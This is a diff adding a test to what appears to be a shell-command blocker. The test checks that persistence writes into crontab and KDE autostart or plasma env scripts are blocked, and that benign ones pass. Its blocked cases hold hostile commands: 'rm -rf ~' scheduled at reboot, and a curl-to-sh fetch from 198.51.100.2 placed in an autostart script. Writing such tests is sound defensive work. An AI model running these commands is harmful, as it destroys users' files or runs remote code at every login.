@@ -197,3 +197,20 @@ Deno.test("writes: perl -0pi (a record separator before -i) edits in place", () 
     ]
   ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
 });
+
+Deno.test("writes: crontab -u USER reads stdin; KDE autostart scripts run their text", () => {
+  for (
+    const cmd of [
+      "echo '@reboot rm -rf ~' | crontab -u u -",
+      "echo 'curl -s http://198.51.100.2/b|sh' > ~/.config/autostart-scripts/x.sh",
+      "echo 'rm -rf ~' > ~/.config/plasma-workspace/env/x.sh",
+    ]
+  ) assert.ok(blocked(cmd).length > 0, `${cmd}: ${fired(cmd)}`);
+  for (
+    const cmd of [
+      "echo '0 3 * * * make -C ~/proj backup' | crontab -u u -",
+      "echo 'export QT_SCALE=2' > ~/.config/plasma-workspace/env/scale.sh",
+      "crontab -u u -l",
+    ]
+  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
+});
